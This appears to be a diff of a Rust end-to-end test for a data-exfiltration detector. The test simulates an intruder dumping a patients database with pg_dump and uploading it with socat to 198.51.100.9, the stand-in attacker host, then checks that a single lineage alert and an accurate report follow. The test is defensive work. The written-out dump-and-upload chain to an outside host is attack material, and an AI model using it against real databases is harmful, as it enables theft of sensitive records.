@@ -7,8 +7,10 @@
 //! - an intruder's shell dumps the database with `pg_dump -Fc` and a program of another
 //!   service uploads the dump to 198.51.100.9: every link of the chain the agent sees is
 //!   counted exactly; over loopback it is `lineage` naming `records` (the `postgresql`
-//!   profile `serves` records: what a backend sends a local client taints the client). Over
-//!   the Unix socket it is still missed: that test is ignored.
+//!   profile `serves` records: what a backend sends a local client taints the client), raised
+//!   within 30 s of pg_dump's start, the only alert. Over the Unix socket it is still missed,
+//!   and no test here tries it (the agent counts no Unix-domain traffic; README, "Deploying on
+//!   a database server").
 //!
 //! Why lineage missed it before `serves`: the taint starts at reads of `records` *files* and follows files
 //! written by tainted processes. pg_dump reads no records file: the backend does (and its
@@ -27,7 +29,7 @@ use std::{
 };
 
 use exfil_tests::{
-    Agent, CountingRelay, NetNs, Proc, ServiceCgroup,
+    Agent, CountingRelay, NetNs, Proc, Resident, ServiceCgroup,
     postgres::{self, Postgres},
     require_root, run_cli, socket_addr, traffic,
 };
@@ -43,6 +45,8 @@ const ALERT_WITHIN: Duration = Duration::from_secs(30);
 const PATIENTS: u32 = 200_000;
 /// Where the records go: the attacker's host in the outside world.
 const EXFIL_HOST: &str = "198.51.100.9";
+/// The uploader's unit: a service of its own, not the intruder's shell.
+const UPLOADER: &str = "exfil-e2e-upload.service";
 
 #[derive(Debug, Clone, Deserialize)]
 struct Alert {
@@ -100,6 +104,21 @@ impl Drop for ScratchDir {
     fn drop(&mut self) {
         let _ = std::fs::remove_dir_all(&self.0);
     }
+}
+
+/// The evidence of a run: stops the agent (SIGTERM), asserts that its journal verifies, and
+/// returns `report`'s JSON, run with `args` (`--service NAME`).
+fn evidence(agent: &mut Agent, args: &[&str]) -> serde_json::Value {
+    let status = agent.stop().expect("SIGTERM");
+    assert!(status.success(), "{status}");
+    let journal = agent.journal_dir().to_str().expect("utf-8").to_owned();
+    let (code, verdict, _) = run_cli(&["journal", "verify", &journal]);
+    assert_eq!(code, 0, "{verdict}");
+    let mut report = vec!["report", &journal, "--format", "json"];
+    report.extend_from_slice(args);
+    let (code, stdout, stderr) = run_cli(&report);
+    assert_eq!(code, 0, "report: {stderr}");
+    serde_json::from_str(&stdout).expect("report JSON")
 }
 
 /// Runs the attacker's `psql` (`SELECT pg_backend_pid()`, then a `COPY … TO STDOUT`) to its
@@ -207,14 +226,7 @@ fn a_remote_copy_of_the_patients_table_is_a_burst_naming_postgresql() {
 
     // The evidence: an intact journal, and a report naming the service, the destination and
     // the bytes.
-    let status = agent.stop().expect("SIGTERM");
-    assert!(status.success(), "{status}");
-    let journal = agent.journal_dir().to_str().expect("utf-8").to_owned();
-    let (code, verdict, _) = run_cli(&["journal", "verify", &journal]);
-    assert_eq!(code, 0, "{verdict}");
-    let (code, stdout, stderr) = run_cli(&["report", &journal, "--format", "json"]);
-    assert_eq!(code, 0, "report: {stderr}");
-    let report: serde_json::Value = serde_json::from_str(&stdout).expect("report JSON");
+    let report = evidence(&mut agent, &[]);
     let to_attacker = report["destinations"]
         .as_array()
         .expect("destinations")
@@ -286,8 +298,12 @@ fn dump_and_upload(ns: &NetNs, pg: &Postgres, agent: &Agent, dir: &std::path::Pa
         std::os::unix::fs::MetadataExt::ino(&metadata),
     );
 
+    // The dump stays in the page cache until it is uploaded, as on a server whose memory
+    // is not reclaimed within seconds (this VM's is: see `Resident`).
+    let resident = Resident::lock(&dump).expect("the dump held in memory");
+
     std::thread::sleep(exfil_tests::POLL * 3);
-    let uploader = ServiceCgroup::create("exfil-e2e-upload.service").expect("cgroup");
+    let uploader = ServiceCgroup::create(UPLOADER).expect("cgroup");
     let (mut sink, port) = traffic!().sink(ns, "tcp", EXFIL_HOST).expect("sink");
     let mut socat = Command::new("socat");
     socat
@@ -298,6 +314,7 @@ fn dump_and_upload(ns: &NetNs, pg: &Postgres, agent: &Agent, dir: &std::path::Pa
     let upload = Proc::spawn(socat, "socat").expect("socat");
     let upload_pid = upload.pid();
     upload.finish().expect("socat uploads the dump");
+    drop(resident);
     let received: u64 = sink.expect_line("received").expect("received");
     assert_eq!(received, dump_size);
 
@@ -381,11 +398,14 @@ fn a_pg_dump_over_loopback_and_its_upload_are_counted_link_by_link() {
 }
 
 /// The scenario's expectation: `lineage` naming `records`, the uploader's service, the
-/// attacker and exactly the bytes the sink received, within 30 s of pg_dump's start.
-fn pg_dump_uploaded_is_lineage() {
+/// attacker and exactly the bytes the sink received, within 30 s of pg_dump's start; no other
+/// alert; and the evidence: the journal verifies, and `report` names the uploader's service,
+/// the attacker and those bytes.
+#[test]
+fn a_pg_dump_over_loopback_uploaded_by_another_process_is_lineage_naming_records() {
     require_root();
     let (ns, pg) = database();
-    let agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
+    let mut agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
     let dir = ScratchDir::new("pg-dump");
     let chain = dump_and_upload(&ns, &pg, &agent, &dir.0);
     let lineage = wait_for(
@@ -393,39 +413,98 @@ fn pg_dump_uploaded_is_lineage() {
         ALERT_WITHIN.saturating_sub(chain.started.elapsed()),
         |a| a.kind == "lineage",
     );
+    let latency = chain.started.elapsed();
     let lineage = lineage.unwrap_or_else(|| {
         panic!(
             "a lineage alert within 30 s of pg_dump's start (pid {}, dump of {} bytes \
-             uploaded by pid {}); alerts: {:?}",
+             uploaded by pid {}); alerts after {latency:?}: {:?}",
             chain.dump_pid,
             chain.dump_size,
             chain.upload_pid,
             alerts(&agent)
         )
     });
-    eprintln!(
-        "lineage seen {:?} after pg_dump started",
-        chain.started.elapsed()
-    );
+    eprintln!("lineage seen {latency:?} after pg_dump started");
+    assert!(latency <= ALERT_WITHIN, "{latency:?}");
+    // Once the upload's last interval is in, the alert holds every byte the sink received.
+    let lineage = wait_for(&agent, Duration::from_secs(10), |a| {
+        a.id == lineage.id && a.bytes >= chain.received
+    })
+    .expect("the alert grows to the bytes received");
     assert_eq!(
         (
             lineage.service.as_str(),
             lineage.destination.as_str(),
             lineage.pid,
+            lineage.comm.as_str(),
             lineage.bytes,
             lineage.class.as_deref()
         ),
         (
-            "exfil-e2e-upload.service",
+            UPLOADER,
             EXFIL_HOST,
             chain.upload_pid,
+            "socat",
             chain.received,
             Some("records")
         )
     );
-}
+    // Two more intervals: nothing else. The dump is under `detect.burst.bytes`, the
+    // attacker's host no new destination (the agent is still learning), and the backend's
+    // bytes to pg_dump stayed on loopback.
+    std::thread::sleep(INTERVAL * 2 + exfil_tests::POLL);
+    let all: Vec<(String, String, String)> = alerts(&agent)
+        .into_iter()
+        .map(|a| (a.kind, a.service, a.destination))
+        .collect();
+    assert_eq!(
+        all,
+        [(
+            "lineage".to_owned(),
+            UPLOADER.to_owned(),
+            EXFIL_HOST.to_owned()
+        )]
+    );
 
-#[test]
-fn a_pg_dump_over_loopback_uploaded_by_another_process_is_lineage_naming_records() {
-    pg_dump_uploaded_is_lineage();
+    // The evidence: an intact journal, and a report naming the uploader's service, the
+    // attacker and the bytes the sink received, and the alert with them.
+    let report = evidence(&mut agent, &["--service", UPLOADER]);
+    let destinations: Vec<_> = report["destinations"]
+        .as_array()
+        .expect("destinations")
+        .iter()
+        .map(|d| {
+            (
+                d["destination"].as_str().unwrap_or_default(),
+                d["bytes"].as_u64(),
+                d["services"].clone(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        destinations,
+        [(
+            EXFIL_HOST,
+            Some(chain.received),
+            serde_json::json!([UPLOADER])
+        )],
+        "{report}"
+    );
+    let reported: Vec<_> = report["alerts"]
+        .as_array()
+        .expect("alerts")
+        .iter()
+        .map(|a| {
+            (
+                a["kind"].as_str().unwrap_or_default(),
+                a["destination"].as_str().unwrap_or_default(),
+                a["bytes"].as_u64(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        reported,
+        [("lineage", EXFIL_HOST, Some(chain.received))],
+        "{report}"
+    );
 }
